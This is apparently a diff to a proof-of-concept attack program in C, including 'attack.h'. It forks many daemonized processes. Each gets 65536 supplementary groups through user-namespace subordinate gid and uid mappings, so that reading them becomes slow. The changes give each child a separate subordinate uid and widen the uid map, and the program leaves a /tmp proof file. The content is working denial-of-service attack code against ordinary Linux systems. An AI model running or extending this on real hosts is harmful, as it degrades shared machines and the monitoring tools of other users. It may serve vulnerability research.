@@ -1,5 +1,6 @@
 /* Makes its own processes slow to read: each has as many groups as the kernel allows, by a range of subordinate gids, and shares
-   them with the others, so that they cost it nothing. Arguments: how many processes, and where the ranges begin. */
+   them with the others, so that they cost it nothing. Each has another subordinate uid, so that none is of the same user.
+   Arguments: how many processes, and where the ranges begin. */
 #include "attack.h"
 #include <grp.h>
 
@@ -18,13 +19,17 @@ int main(int argc, char **argv) {
         if (setgroups(65536, groups) != 0) _exit(6);
         daemonize();
         for (int at = 0; at < atoi(argv[1]); at++)
-            if (fork() == 0) for (;;) pause();
+            if (fork() == 0) {
+                if (setresuid(at + 1, at + 1, at + 1) != 0) _exit(10);
+                for (;;) pause();
+            }
         int fd = open("/tmp/proof.groups", O_WRONLY | O_CREAT | O_TRUNC, 0644);
         if (fd < 0 || dprintf(fd, "processes %s\n", argv[1]) < 0) _exit(7);
         for (;;) pause();
     }
-    if (read(ready[0], &byte, 1) < 0) return 1;
-    snprintf(command, sizeof command, "newuidmap %d 0 %u 1 1 %s 1 && newgidmap %d 0 %u 1 1 %s 65535", inner, getuid(), argv[2], inner,
+    close(ready[1]);
+    if (read(ready[0], &byte, 1) != 1) return 1;
+    snprintf(command, sizeof command, "newuidmap %d 0 %u 1 1 %s 65535 && newgidmap %d 0 %u 1 1 %s 65535", inner, getuid(), argv[2], inner,
              getgid(), argv[2]);
     if (system(command) != 0) return 8;
     if (write(go[1], "x", 1) < 0 || waitpid(inner, &status, 0) < 0) return 9;
